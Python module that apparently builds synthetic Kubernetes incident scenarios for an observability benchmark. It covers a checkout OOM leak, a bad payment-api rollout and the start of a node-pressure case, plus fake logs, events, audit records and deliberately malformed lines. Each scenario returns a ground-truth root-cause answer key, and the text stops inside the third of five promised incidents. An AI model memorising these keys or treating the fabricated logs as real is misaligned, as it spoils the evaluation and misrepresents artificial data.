# ruff: noqa: E501  (message templates stay on one line, as they appear in the files)
"""The five bundled incidents: each builds a World, plants its fault, and returns (world, truth)."""

from __future__ import annotations

import json
import uuid

import numpy as np

from obskit.datasets import _formats as F
from obskit.datasets._render import lifecycle_records
from obskit.datasets._world import NS, CSpec, Pod, Workload, World

MI = 2**20


# =============================================================================== shared cluster
def _nodes(w: World, style: str, n: int) -> None:
    zones = ["a", "b", "c"]
    for i in range(n):
        z = zones[i % 3]
        if style == "eks":
            ip = f"10.0.{(i % 3) * 16 + 1}.{int(w.rng.integers(10, 250))}"
            name = f"ip-{ip.replace('.', '-')}.eu-west-1.compute.internal"
            w.add_node(
                name,
                ip,
                f"eu-west-1{z}",
                "m5.xlarge",
                4,
                16,
                80,
                f"aws:///eu-west-1{z}/i-0{w.hexid(16)}",
            )
        else:
            ip = f"10.128.0.{int(w.rng.integers(10, 250))}"
            name = f"gke-{w.cluster}-default-pool-{w.hexid(8)}-{w.suffix(4)}"
            w.add_node(
                name,
                ip,
                f"europe-west4-{z}",
                "e2-standard-4",
                4,
                16,
                100,
                f"gce://acme-prod/europe-west4-{z}/{name}",
            )
            w.nodes[-1]["kernel"] = "6.1.75+"


def _system(w: World) -> None:
    for ns, age in [
        ("default", 400),
        ("kube-system", 400),
        ("kube-public", 400),
        ("kube-node-lease", 400),
        ("monitoring", 300),
        ("ingress-nginx", 300),
    ]:
        w.add_namespace(ns, age)
    old = w.t0 - 120 * 86400 * NS
    for wl in [
        Workload(
            "Deployment",
            "coredns",
            "kube-system",
            2,
            [CSpec("coredns", "registry.k8s.io/coredns/coredns:v1.11.1", 53, readiness="/ready")],
            old,
            sa="coredns",
            style="klog",
            log_rate=0.004,
            cpu=0.004,
            mem=22 * MI,
            labels={"k8s-app": "kube-dns"},
        ),
        Workload(
            "DaemonSet",
            "kube-proxy",
            "kube-system",
            0,
            [CSpec("kube-proxy", "registry.k8s.io/kube-proxy:v1.29.3")],
            old,
            sa="kube-proxy",
            style="klog",
            log_rate=0.002,
            cpu=0.002,
            mem=18 * MI,
            service=False,
            labels={"k8s-app": "kube-proxy"},
            host_network=True,
        ),
        Workload(
            "DaemonSet",
            "node-exporter",
            "monitoring",
            0,
            [
                CSpec(
                    "node-exporter", "quay.io/prometheus/node-exporter:v1.7.0", 9100, readiness=None
                )
            ],
            old,
            sa="node-exporter",
            style="logfmt",
            log_rate=0.001,
            cpu=0.01,
            mem=16 * MI,
            service=False,
            labels={"app.kubernetes.io/name": "prometheus-node-exporter"},
            host_network=True,
        ),
        Workload(
            "Deployment",
            "kube-state-metrics",
            "monitoring",
            1,
            [
                CSpec(
                    "kube-state-metrics",
                    "registry.k8s.io/kube-state-metrics/kube-state-metrics:v2.10.1",
                    8080,
                )
            ],
            old,
            sa="kube-state-metrics",
            style="klog",
            log_rate=0.002,
            cpu=0.01,
            mem=60 * MI,
            labels={"app.kubernetes.io/name": "kube-state-metrics"},
        ),
        Workload(
            "StatefulSet",
            "prometheus",
            "monitoring",
            1,
            [
                CSpec(
                    "prometheus",
                    "quay.io/prometheus/prometheus:v2.51.1",
                    9090,
                    readiness="/-/ready",
                )
            ],
            old,
            sa="kube-prometheus-stack-prometheus",
            style="logfmt",
            log_rate=0.01,
            cpu=0.3,
            mem=1400 * MI,
            labels={"app.kubernetes.io/name": "prometheus"},
        ),
        Workload(
            "Deployment",
            "ingress-nginx-controller",
            "ingress-nginx",
            2,
            [CSpec("controller", "registry.k8s.io/ingress-nginx/controller:v1.10.0", 80)],
            old,
            sa="ingress-nginx",
            style="nginx",
            log_rate=0.045,
            cpu=0.08,
            mem=110 * MI,
            rps=40,
            labels={
                "app.kubernetes.io/name": "ingress-nginx",
                "app.kubernetes.io/component": "controller",
            },
        ),
    ]:
        w.add_workload(wl)


def _cron(
    w: World, name: str, ns: str, every_min: int, fail_at: float | None, fail_lines: list[str]
) -> Workload:
    wl = w.add_workload(
        Workload(
            "CronJob",
            name,
            ns,
            0,
            [CSpec("job", f"registry.example.com/batch/{name}:3.2.0", readiness=None)],
            w.t0 - 60 * 86400 * NS,
            style="python",
            log_rate=0.3,
            cpu=0.2,
            mem=90 * MI,
            service=False,
            schedule=f"*/{every_min} * * * *",
        )
    )
    wl.revisions.append(
        {"hash": "", "uid": "", "created": wl.created, "images": {}, "number": 1, "replicas_end": 0}
    )
    start_s = (w.t0 // NS // (every_min * 60) + 1) * every_min * 60
    while start_s * NS < w.t1 - 4 * 60 * NS:
        t = start_s * NS + int(w.rng.uniform(0.01, 0.5) * NS)
        jname = f"{name}-{start_s // 60}"
        juid = w.uid()
        fail = fail_at is not None and abs((t - w.t0) / 60 / NS - fail_at) < every_min / 2
        dur = float(w.rng.uniform(35, 80))
        node = w.pick_node()
        pod = w.add_pod(
            wl,
            t + int(0.3 * NS),
            node=node,
            name=f"{jname}-{w.suffix()}",
            owner=("Job", jname, juid),
        )
        pod.labels.update(
            {
                "batch.kubernetes.io/controller-uid": juid,
                "batch.kubernetes.io/job-name": jname,
                "controller-uid": juid,
                "job-name": jname,
            }
        )
        end = pod.cstates[0].attempts[0].start + int(dur * NS)
        w.kill(pod, end, "Error" if fail else "Completed", 1 if fail else 0, None)
        pod.phase = "Failed" if fail else "Succeeded"
        w.jobs.append(
            {
                "name": jname,
                "uid": juid,
                "cron": wl,
                "start": t,
                "end": end + NS,
                "ok": not fail,
                "pod": pod,
            }
        )
        w.event(
            "CronJob",
            name,
            ns,
            wl.uid,
            "SuccessfulCreate",
            f"Created job {jname}",
            t,
            comp="cronjob-controller",
            api_version="batch/v1",
        )
        if fail:
            w.event(
                "Job",
                jname,
                ns,
                juid,
                "BackoffLimitExceeded",
                "Job has reached the specified backoff limit",
                end + NS,
                typ="Warning",
                comp="job-controller",
                api_version="batch/v1",
            )
            for k, line in enumerate(fail_lines):
                w.log(pod, end - NS + k * 1000, line, "stderr")
        else:
            w.event(
                "Job",
                jname,
                ns,
                juid,
                "Completed",
                "Job completed",
                end + NS,
                comp="job-controller",
                api_version="batch/v1",
            )
        w.event(
            "CronJob",
            name,
            ns,
            wl.uid,
            "SawCompletedJob",
            f"Saw completed job: {jname}, status: {'Failed' if fail else 'Complete'}",
            end + 2 * NS,
            comp="cronjob-controller",
            api_version="batch/v1",
        )
        start_s += every_min * 60
    # history limits: keep the last 3 successful and the last failed job
    ok = [j for j in w.jobs if j["cron"] is wl and j["ok"]]
    bad = [j for j in w.jobs if j["cron"] is wl and not j["ok"]]
    drop = ok[:-3] + bad[:-1]
    for j in drop:
        later = [k for k in w.jobs if k["cron"] is wl and k["start"] > j["start"]]
        t_del = (later[2]["end"] if len(later) > 2 else later[-1]["end"]) + 2 * NS
        w.event(
            "CronJob",
            name,
            ns,
            wl.uid,
            "SuccessfulDelete",
            f"Deleted job {j['name']}",
            t_del,
            comp="cronjob-controller",
            api_version="batch/v1",
        )
        j["pod"].deleted = t_del + NS
        w.jobs.remove(j)
    return wl


def _probe_blip(w: World, pod: Pod, minute: float, path: str = "/healthz") -> None:
    t = w.at(minute)
    port = pod.cstates[0].spec.port or 8080
    w.pod_event(
        pod,
        "Unhealthy",
        f'Readiness probe failed: Get "http://{pod.ip}:{port}{path}": context deadline exceeded '
        "(Client.Timeout exceeded while awaiting headers)",
        t,
        typ="Warning",
    )


def _noisy(w: World, pod: Pod) -> None:
    """A healthy service that logs warnings all the time (deprecated-API chatter)."""
    t = w.t0 + int(w.rng.uniform(0, 20) * NS)
    while t < w.t1:
        w.log(
            pod,
            t,
            json.dumps(
                {
                    "level": "warn",
                    "ts": round(t / NS, 6),
                    "caller": "client/legacy.go:88",
                    "msg": "deprecated endpoint /v1/recommendations used, migrate to /v2",
                    "client": "frontend",
                },
                separators=(",", ":"),
            ),
            "stderr",
        )
        t += int(w.rng.exponential(20) * NS)


def _human(
    w: World,
    t: int,
    user: str,
    ip: str,
    verb: str,
    uri: str,
    res: str,
    ns: str | None,
    name: str | None = None,
    sub: str | None = None,
    code: int = 200,
    groups: tuple = ("sre", "system:authenticated"),
) -> str:
    return w.audit_event(
        t,
        user={"username": user, "groups": list(groups)},
        verb=verb,
        uri=uri,
        resource=res,
        ns=ns,
        name=name,
        sub=sub,
        code=code,
        ips=[ip],
        ua="kubectl/v1.29.2 (darwin/arm64) kubernetes/4b8e819",
        reason=f'RBAC: allowed by ClusterRoleBinding "sre-view" of ClusterRole "view" to Group "{groups[0]}"',
    )


def _long_line(w: World, pod: Pod, t: int, n_items: int) -> None:
    """A very long JSON line (a dumped cart/config) that containerd splits into P parts."""
    items = [
        {
            "sku": f"SKU-{int(w.rng.integers(10000, 99999))}",
            "qty": int(w.rng.integers(1, 4)),
            "price": round(float(w.rng.uniform(2, 90)), 2),
            "attrs": {"color": "blue", "size": "M", "note": "x" * 40},
        }
        for _ in range(n_items)
    ]
    w.log(
        pod,
        t,
        json.dumps(
            {"level": "debug", "ts": round(t / NS, 6), "msg": "cart snapshot", "items": items},
            separators=(",", ":"),
        ),
    )


def _malformed_cri(w: World, pod: Pod, t: int, kind: str) -> None:
    if kind == "bad-ts":
        raw = (
            F.ts_nano(t).replace("T", " ", 1)[:-4].encode()
            + b' stdout F {"level":"info","msg":"request completed"}'
        )
        w.log(pod, t, "", raw=raw, flag="malformed")
    elif kind == "truncated":
        raw = F.ts_nano(t).encode()[:17]
        w.log(pod, t, "", raw=raw, flag="malformed")
    elif kind == "non-utf8":
        raw = (
            F.ts_nano(t).encode()
            + b' stdout F user-agent="Mozilla/5.0 \xff\xfe\xc3(" path=/search q=caf\xe9'
        )
        w.log(pod, t, "", raw=raw, flag="non_utf8")


def _truth(
    w: World,
    *,
    ns,
    kind,
    wl,
    pod,
    container,
    node,
    level,
    fault_start,
    category,
    description,
    detections=None,
) -> dict:
    return {
        "name": w.name,
        "cluster": w.cluster,
        "root_cause": {
            "namespace": ns,
            "workload_kind": kind,
            "workload": wl,
            "pod": pod,
            "container": container,
            "node": node,
        },
        "level": level,
        "fault_start": F.ts_s(fault_start),
        "window": {"start": F.ts_s(w.t0), "end": F.ts_s(w.t1)},
        "category": category,
        "description": description,
        "expected_detections": detections or [],
    }


def _apps(w: World, ns: str, specs: list[tuple]) -> dict[str, Workload]:
    out = {}
    for name, replicas, image, port, style, rps, cpu, mem, extra in specs:
        c = CSpec(name, image, port, mem_limit=extra.get("limit"))
        wl = Workload(
            extra.get("kind", "Deployment"),
            name,
            ns,
            replicas,
            [c],
            w.t0 - int(w.rng.integers(20, 200)) * 86400 * NS,
            sa=extra.get("sa", name),
            style=style,
            log_rate=extra.get("log_rate", 0.022),
            rps=rps,
            cpu=cpu,
            mem=mem,
            labels={"app": name, "app.kubernetes.io/name": name, "app.kubernetes.io/part-of": ns},
        )
        w.add_workload(wl)
        out[name] = wl
    return out


def _populate_all(w: World) -> None:
    for wl in w.workloads:
        if wl.kind in ("Deployment", "StatefulSet", "DaemonSet") and not any(
            p.wl is wl for p in w.pods
        ):
            w.populate(wl)


def _ring(w: World, pods: list[Pod], t: int, minutes: float) -> tuple[int, int]:
    return w.idx(t), w.idx(t + int(minutes * 60 * NS))


# =============================================================================== 1. checkout-oom
def checkout_oom(seed: int, scale: float) -> tuple[World, dict]:
    w = World("checkout-oom", "prod-eu-1", seed, scale, "2024-05-14T08:30:00Z", 2.0)
    _nodes(w, "eks", 4)
    _system(w)
    for ns in ("shop", "batch"):
        w.add_namespace(ns, 180)
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    apps = _apps(
        w,
        "shop",
        [
            (
                "frontend",
                reps(3),
                "registry.example.com/shop/frontend:1.42.0",
                8080,
                "json",
                25.0,
                0.12,
                180 * MI,
                {},
            ),
            (
                "checkout",
                reps(2),
                "registry.example.com/shop/checkout:3.7.1",
                8080,
                "java",
                6.0,
                0.25,
                260 * MI,
                {"limit": "512Mi", "log_rate": 0.02},
            ),
            (
                "cart",
                reps(2),
                "registry.example.com/shop/cart:2.3.4",
                8080,
                "logfmt",
                12.0,
                0.06,
                90 * MI,
                {},
            ),
            (
                "catalog",
                reps(2),
                "registry.example.com/shop/catalog:5.0.2",
                8080,
                "json",
                18.0,
                0.08,
                140 * MI,
                {},
            ),
            (
                "payment",
                reps(2),
                "registry.example.com/shop/payment:1.9.0",
                8080,
                "logfmt",
                5.0,
                0.05,
                100 * MI,
                {},
            ),
            (
                "recommendation",
                reps(2),
                "registry.example.com/shop/recommendation:0.14.2",
                8080,
                "json",
                9.0,
                0.15,
                300 * MI,
                {},
            ),
            (
                "redis",
                1,
                "docker.io/library/redis:7.2.4",
                6379,
                "redis",
                0.0,
                0.03,
                60 * MI,
                {"kind": "StatefulSet", "log_rate": 0.003},
            ),
        ],
    )
    _populate_all(w)
    _cron(
        w,
        "report-generator",
        "batch",
        15,
        38.0,
        [
            "Traceback (most recent call last):",
            '  File "/app/report.py", line 212, in <module>',
            "    main()",
            '  File "/app/report.py", line 198, in main',
            "    rows = fetch_rows(conn, since)",
            'psycopg2.OperationalError: could not translate host name "reports-db.batch.svc" to address: Temporary failure in name resolution',
        ],
    )
    w.base_signals()
    pods = {wl: [p for p in w.pods if p.wl.name == wl] for wl in apps}
    fault = w.at(22.0)
    limit = 512 * MI
    ck = pods["checkout"]
    first_oom = None
    down = np.zeros(len(w.grid))
    for j, pod in enumerate(ck):
        leak = (limit - 265 * MI) / (
            (30 + 9 * j) * 60 + float(w.rng.uniform(-200, 200))
        )  # bytes per second
        mem = pod.mem.copy()
        t_ns = w.grid * NS
        k = 0
        while True:
            a = pod.cstates[0].attempts[-1]
            grow_from = max(a.start, fault)
            start_mem = 265 * MI if k == 0 else 250 * MI
            rate = leak * (1 + 0.9 * k)
            t_oom = grow_from + int((limit - start_mem) / rate * NS)
            seg = (t_ns >= a.start) & (t_ns < min(t_oom, w.t1 + NS))
            mem[seg] = (
                np.minimum(
                    limit * 0.995, start_mem + rate * np.maximum(0, (t_ns[seg] - grow_from) / NS)
                )
                + w.noise(1e6)[seg]
            )
            if t_oom >= w.t1:
                break
            backoff = min(300, 10 * 2**k)
            first_oom = t_oom if first_oom is None or t_oom < first_oom[0] else first_oom
            if not isinstance(first_oom, tuple):
                first_oom = (t_oom, pod)
            w.kill(pod, t_oom, "OOMKilled", 137, backoff)
            d0, d1 = w.idx(t_oom), w.idx(t_oom + int((backoff + 8) * NS))
            down[d0 : d1 + 1] += 1
            w.event(
                "Node",
                pod.node["name"],
                None,
                pod.node["name"],
                "OOMKilling",
                f"Memory cgroup out of memory: Killed process {int(w.rng.integers(3000, 60000))} (java) total-vm:{int(w.rng.integers(3_900_000, 4_200_000))}kB, "
                f"anon-rss:{limit // 1024 - int(w.rng.integers(1000, 9000))}kB, file-rss:{int(w.rng.integers(20000, 30000))}kB, shmem-rss:0kB, UID:10001 pgtables:{int(w.rng.integers(1400, 1700))}kB oom_score_adj:{int(w.rng.integers(900, 999))}",
                t_oom + int(0.2 * NS),
                typ="Warning",
                comp="kernel-monitor",
                host=pod.node["name"],
            )
            # JVM complains right before the kill
            jt = t_oom - int(w.rng.uniform(2, 6) * NS)
            trace = [
                "ERROR 1 --- [http-nio-8080-exec-4] o.a.c.c.C.[.[.[/].[dispatcherServlet]    : Servlet.service() for servlet [dispatcherServlet] threw exception",
                "java.lang.OutOfMemoryError: Java heap space",
                "\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)",
                "\tat java.base/java.util.ArrayList.grow(ArrayList.java:237)",
                "\tat com.example.shop.checkout.history.OrderHistoryCache.put(OrderHistoryCache.java:88)",
                "\tat com.example.shop.checkout.service.CheckoutService.placeOrder(CheckoutService.java:141)",
                "\tat com.example.shop.checkout.web.CheckoutController.checkout(CheckoutController.java:57)",
                "\t... 48 common frames omitted",
            ]
            w.log(pod, jt, f"{F.ts_java(jt)} " + trace[0])
            for i, line in enumerate(trace[1:]):
                w.log(pod, jt + (i + 1) * 1000, line)
            k += 1
            if pod.cstates[0].waiting:
                break
        pod.mem = mem
        ratio = mem / limit
        pod.cpu = pod.cpu * (1 + 3.0 * np.clip(ratio - 0.6, 0, None) ** 2 * 6)
        # GC warnings as the heap fills
        tt = fault + int(w.rng.uniform(60, 200) * NS)
        while tt < w.t1:
            r = float(ratio[w.idx(tt)])
            if r > 0.7 and w.is_running(pod, tt):
                w.log(
                    pod,
                    tt,
                    f"{F.ts_java(tt)}  WARN 1 --- [G1 Conc#0] c.e.shop.checkout.JvmMonitor               : "
                    f"GC pause {int(150 + 900 * (r - 0.7) / 0.3)}ms (G1 Evacuation Pause) heap={int(r * 100)}% old-gen={int(r * 96)}%",
                )
            tt += int(w.rng.uniform(20, 60) * NS)
    w.log(
        ck[0],
        fault,
        f"{F.ts_java(fault)}  INFO 1 --- [config-watcher-1] c.e.shop.config.FeatureFlags             : Feature flag 'order-history-cache' enabled (rollout=100%)",
    )
    w.log(
        ck[1],
        fault + 3 * NS,
        f"{F.ts_java(fault + 3 * NS)}  INFO 1 --- [config-watcher-1] c.e.shop.config.FeatureFlags             : Feature flag 'order-history-cache' enabled (rollout=100%)",
    )
    frac_down = down / max(1, len(ck))
    for pod in ck:
        run = w.running(pod)
        for code in pod.rps:
            pod.rps[code] = np.where(run, pod.rps[code] * (1 + frac_down), 0)
    w.err_text["frontend"] = [
        "upstream checkout returned error: 503 Service Unavailable",
        "upstream checkout request failed: dial tcp 172.20.41.17:80: connect: connection refused",
        "upstream checkout request failed: context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
    ]
    w.err_text["ingress-nginx-controller"] = ["upstream"]
    for pod in pods["frontend"]:
        pod.err_frac = 0.3 * frac_down + 0.002
        r = pod.rps
        r["503"] = r["200"] * 0.12 * frac_down
        r["200"] = r["200"] * (1 - 0.12 * frac_down)
        pod.p99 = pod.p99 * (1 + 6 * frac_down)
    for pod in [p for p in w.pods if p.wl.name == "ingress-nginx-controller"]:
        pod.err_frac = 0.04 * frac_down
        pod.rps["503"] = pod.rps["200"] * 0.05 * frac_down
    _noisy(w, pods["recommendation"][0])
    _probe_blip(w, pods["catalog"][0], 71.5)
    _long_line(w, pods["cart"][0], w.at(44), 130)
    _long_line(w, pods["frontend"][1], w.at(95), 260)
    fe = pods["frontend"][0]
    _malformed_cri(w, fe, w.at(63.2), "bad-ts")
    w.log(
        fe,
        w.at(64),
        '{"level":"error","ts":'
        + f"{w.at(64) / NS:.6f}"
        + ',"caller":"server/handler.go:201","msg":"upstream checkout retu',
    )
    ing = next(p for p in w.pods if p.wl.name == "ingress-nginx-controller")
    _malformed_cri(w, ing, w.at(80.1), "non-utf8")
    w.rotate.add(("ingress-nginx", ing.name))
    lifecycle_records(w)
    _human(
        w,
        w.at(66),
        "alice@example.com",
        "192.0.2.44",
        "get",
        "/api/v1/namespaces/shop/pods?limit=500",
        "pods",
        "shop",
    )
    _human(
        w,
        w.at(67),
        "alice@example.com",
        "192.0.2.44",
        "get",
        f"/api/v1/namespaces/shop/pods/{ck[0].name}/log?container=checkout&previous=true",
        "pods",
        "shop",
        ck[0].name,
        "log",
    )
    # the audit file was copied while the API server was writing: the last line is cut
    w.audit.append(
        (
            w.t1 + NS,
            '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"'
            + w.uid()
            + '","stage":"ResponseComplete","requestURI":"/api/v1/nodes/',
        )
    )
    w.malformed["audit/audit.log"] = 1
    t_oom, pod0 = first_oom
    truth = _truth(
        w,
        ns="shop",
        kind="Deployment",
        wl="checkout",
        pod=pod0.name,
        container="checkout",
        node=pod0.node["name"],
        level="workload",
        fault_start=fault,
        category="memory-leak",
        description="Feature flag 'order-history-cache' makes checkout leak heap; containers are OOMKilled and crash-loop, frontend returns 503s.",
    )
    truth["first_oom"] = F.ts_s(t_oom)
    return w, truth


# =============================================================================== 2. bad-rollout
def bad_rollout(seed: int, scale: float) -> tuple[World, dict]:
    w = World("bad-rollout", "gke-prod", seed, scale, "2024-06-03T13:00:00Z", 2.0)
    _nodes(w, "gke", 4)
    _system(w)
    for ns in ("payments", "orders", "ci", "batch"):
        w.add_namespace(ns, 150)
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    pay = _apps(
        w,
        "payments",
        [
            (
                "payment-api",
                4,
                "europe-docker.pkg.dev/acme-prod/payments/payment-api:v2.14.0",
                8080,
                "logfmt",
                14.0,
                0.1,
                150 * MI,
                {},
            ),
            (
                "fraud-score",
                reps(2),
                "europe-docker.pkg.dev/acme-prod/payments/fraud-score:v0.9.3",
                8080,
                "json",
                10.0,
                0.2,
                400 * MI,
                {},
            ),
            (
                "ledger",
                1,
                "europe-docker.pkg.dev/acme-prod/payments/ledger:v1.2.0",
                5432,
                "logfmt",
                0.0,
                0.06,
                500 * MI,
                {"kind": "StatefulSet", "log_rate": 0.01},
            ),
        ],
    )
    _apps(
        w,
        "orders",
        [
            (
                "orders-api",
                reps(3),
                "europe-docker.pkg.dev/acme-prod/orders/orders-api:v5.1.2",
                8080,
                "json",
                20.0,
                0.1,
                160 * MI,
                {},
            ),
            (
                "notifications",
                reps(2),
                "europe-docker.pkg.dev/acme-prod/orders/notifications:v1.0.7",
                3000,
                "json",
                3.0,
                0.03,
                120 * MI,
                {},
            ),
            (
                "search",
                reps(2),
                "europe-docker.pkg.dev/acme-prod/orders/search:v2.2.0",
                8080,
                "json",
                8.0,
                0.12,
                350 * MI,
                {},
            ),
        ],
    )
    _populate_all(w)
    _cron(
        w,
        "ledger-reconcile",
        "batch",
        20,
        97.0,
        [
            "Traceback (most recent call last):",
            '  File "/app/reconcile.py", line 77, in run',
            '    raise ReconcileMismatch(f"{n} rows differ")',
            "ReconcileMismatch: 3 rows differ",
        ],
    )
    w.base_signals()
    api = pay["payment-api"]
    old_pods = [p for p in w.pods if p.wl is api]
    fault = w.at(41.0)
    rev = w.add_revision(
        api, fault, {"payment-api": "europe-docker.pkg.dev/acme-prod/payments/payment-api:v2.15.0"}
    )
    api.generation += 1
    old_hash = api.revisions[-2]["hash"]
    ci_sa = w.sa_user("ci", "deployer", w.uid())
    w.audit_event(
        fault - 2 * NS,
        user=ci_sa,
        verb="patch",
        uri="/apis/apps/v1/namespaces/payments/deployments/payment-api?fieldManager=kubectl-set",
        resource="deployments",
        ns="payments",
        name="payment-api",
        group="apps",
        ips=["35.204.17.9"],
        ua="kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9",
        reason='RBAC: allowed by RoleBinding "deployer/payments" of ClusterRole "edit" to ServiceAccount "deployer/ci"',
    )
    w.event(
        "Deployment",
        "payment-api",
        "payments",
        api.uid,
        "ScalingReplicaSet",
        f"Scaled up replica set payment-api-{rev['hash']} to 1",
        fault,
        comp="deployment-controller",
        api_version="apps/v1",
    )
    new_pods = []
    t = fault
    for i, old in enumerate(old_pods):
        node = w.pick_node()
        p = w.add_pod(api, t + int(0.1 * NS), node=node, rev=rev)
        new_pods.append(p)
        ready_t = p.cstates[0].attempts[0].start + int(w.rng.uniform(8, 14) * NS)
        _retire_old_pod(w, api, "payments", old_hash, old, len(old_pods) - i, ready_t)
        w.audit_event(
            ready_t + int(0.3 * NS),
            user={
                "username": "system:serviceaccount:kube-system:replicaset-controller",
                "uid": w.uid(),
                "groups": [
                    "system:serviceaccounts",
                    "system:serviceaccounts:kube-system",
                    "system:authenticated",
                ],
            },
            verb="delete",
            uri=f"/api/v1/namespaces/payments/pods/{old.name}",
            resource="pods",
            ns="payments",
            name=old.name,
            ips=["10.0.0.10"],
            ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:replicaset-controller",
            reason='RBAC: allowed by ClusterRoleBinding "system:controller:replicaset-controller" of ClusterRole "system:controller:replicaset-controller" to ServiceAccount "replicaset-controller/kube-system"',
        )
        if i < len(old_pods) - 1:
            w.event(
                "Deployment",
                "payment-api",
                "payments",
                api.uid,
                "ScalingReplicaSet",
                f"Scaled up replica set payment-api-{rev['hash']} to {i + 2} from {i + 1}",
                ready_t + int(0.5 * NS),
                comp="deployment-controller",
                api_version="apps/v1",
            )
        t = ready_t + int(0.5 * NS)
    for p in new_pods:
        p.cpu, p.mem = old_pods[0].cpu.copy() * 1.1, old_pods[0].mem.copy() * 1.05
        p.rps = {k: v.copy() for k, v in old_pods[0].rps.items()}
        p.p99 = old_pods[0].p99.copy()
        p.err_frac = np.zeros(len(w.grid))
        p.log_factor = old_pods[0].log_factor
    # pool exhaustion: errors ramp as traffic hits the new pods
    t_ns = w.grid * NS
    ramp = np.clip((t_ns - (fault + 4 * 60 * NS)) / (10 * 60 * NS), 0, 1)
    w.err_text["payment-api"] = [
        "db pool exhausted: timed out after 5000ms waiting for a connection (max_open=2 in_use=2 waiting=37)",
        "charge failed: pq: sorry, too many clients already",
        "readiness check failed: db ping: context deadline exceeded",
    ]
    for p in new_pods:
        p.err_frac = 0.05 * ramp
        tot = p.rps["200"]
        p.rps["503"] = tot * 0.3 * ramp
        p.rps["200"] = tot * (1 - 0.3 * ramp)
        p.p99 = p.p99 * (1 + 25 * ramp)
        p.cpu = p.cpu * (1 + 0.5 * ramp)
        start = p.cstates[0].attempts[0].start
        w.log(
            p,
            start + int(0.4 * NS),
            f'ts={F.ts_ms_iso(start + int(0.4 * NS))} level=info msg="config loaded" '
            "source=/etc/payment-api/config.yaml db.max_open_conns=2 db.max_idle_conns=2 gateway.timeout=5s version=v2.15.0",
        )
        # intermittent readiness failures → Unhealthy events, aggregated
        first = fault + int(w.rng.uniform(5, 8) * 60 * NS)
        n = int(w.rng.integers(60, 140))
        w.pod_event(
            p,
            "Unhealthy",
            "Readiness probe failed: HTTP probe failed with statuscode: 503",
            first,
            typ="Warning",
            count=n,
            last=w.t1 - int(w.rng.uniform(5, 60) * NS),
        )
        p.unready.append(w.t1 - int(w.rng.uniform(10, 40) * NS))
    new_pods[0].cstates[0].ready = False
    new_pods[2].cstates[0].ready = False
    w.err_text["orders-api"] = [
        "payment call failed: POST http://payment-api.payments.svc.cluster.local/v1/charges: 503 Service Unavailable",
        "payment call failed: context deadline exceeded",
        "order placement failed, rolling back reservation",
    ]
    for p in [x for x in w.pods if x.wl.name == "orders-api"]:
        p.err_frac = 0.09 * ramp
        tot = p.rps["200"]
        p.rps["502"] = tot * 0.2 * ramp
        p.rps["200"] = tot * (1 - 0.2 * ramp)
        p.p99 = p.p99 * (1 + 12 * ramp)
    _noisy(w, next(p for p in w.pods if p.wl.name == "search"))
    _probe_blip(w, next(p for p in w.pods if p.wl.name == "notifications"), 18.3)
    _long_line(w, [p for p in w.pods if p.wl.name == "orders-api"][1], w.at(58), 200)
    _malformed_cri(w, next(p for p in w.pods if p.wl.name == "orders-api"), w.at(77.7), "truncated")
    lifecycle_records(w)
    # a benign CI deploy of notifications an hour earlier
    w.audit_event(
        w.at(12),
        user=ci_sa,
        verb="get",
        uri="/apis/apps/v1/namespaces/orders/deployments/notifications",
        resource="deployments",
        ns="orders",
        name="notifications",
        group="apps",
        ips=["35.204.17.9"],
        ua="kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9",
        reason='RBAC: allowed by RoleBinding "deployer/orders" of ClusterRole "edit" to ServiceAccount "deployer/ci"',
    )
    _human(
        w,
        w.at(63),
        "oncall@acme.dev",
        "198.51.100.23",
        "get",
        "/apis/apps/v1/namespaces/payments/replicasets?limit=500",
        "replicasets",
        "payments",
    )
    truth = _truth(
        w,
        ns="payments",
        kind="Deployment",
        wl="payment-api",
        pod=None,
        container="payment-api",
        node=None,
        level="workload",
        fault_start=fault,
        category="bad-rollout",
        description="Rollout of payment-api v2.15.0 ships db.max_open_conns=2; new pods exhaust the pool, fail readiness and return 503s.",
    )
    truth["rollout"] = {
        "old_replicaset": f"payment-api-{old_hash}",
        "new_replicaset": f"payment-api-{rev['hash']}",
        "old_pods": [p.name for p in old_pods],
        "new_pods": [p.name for p in new_pods],
    }
    return w, truth


# =============================================================================== 3. node-pressure
def node_pressure(seed: int, scale: float) -> tuple[World, dict]:
    w = World("node-pressure", "prod-eu-2", seed, scale, "2024-07-22T02:10:00Z", 2.5)
    _nodes(w, "eks", 4)
    _system(w)
    for ns in ("media", "analytics", "batch"):
        w.add_namespace(ns, 220)
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    _apps(
        w,
        "media",
        [
            (
                "thumbnailer",
                reps(3),
                "registry.example.com/media/thumbnailer:4.1.0",
                8080,
                "json",
                6.0,
                0.3,
                300 * MI,
                {},
            ),
            (
                "upload-api",
                reps(3),
                "registry.example.com/media/upload-api:2.8.1",
                8080,
                "logfmt",
                10.0,
                0.08,
                140 * MI,
                {},
            ),
            (
                "cdn-purger",
                reps(2),
                "registry.example.com/media/cdn-purger:1.1.0",
                8080,
                "json",
                1.0,
                0.02,
                60 * MI,
                {},
            ),
        ],
    )
    _apps(
        w,
        "analytics",
        [
            (
                "events-collector",
                reps(3),
                "registry.example.com/analytics/collector:0.22.0",
                8080,
                "json",
                30.0,
                0.15,
                200 * MI,
                {},
            ),
            (
                "dashboard",
                reps(2),
                "registry.example.com/analytics/dashboard:3.3.3",
                3000,
                "logfmt",
                2.0,
                0.05,
                250 * MI,
                {},
            ),
            (
                "clickhouse",
                1,
                "docker.io/clickhouse/clickhouse-server:24.3",
                8123,
                "logfmt",
                0.0,
                0.4,
                2000 * MI,
                {"kind": "StatefulSet", "log_rate": 0.02},
            ),
        ],
    )
    _populate_all(w)
    bad = w.nodes[2]
    # make sure several workloads have pods on the bad node
    movable = [
        p
        for p in w.pods
        if p.wl.kind == "Deployment" and p.wl.ns in ("media", "analytics") and p.node is not bad
    ]
    for p in movable[::3][:4]:
        p.node["pods_on"] -= 1
        p.node = bad
        bad["pods_on"] += 1
    _cron(w, "sessionize", "batch", 30, None, [])
    w.base_signals()
    t_ns = w.grid * NS
    fault = w.at(31.0)
    press = w.at(68.0)
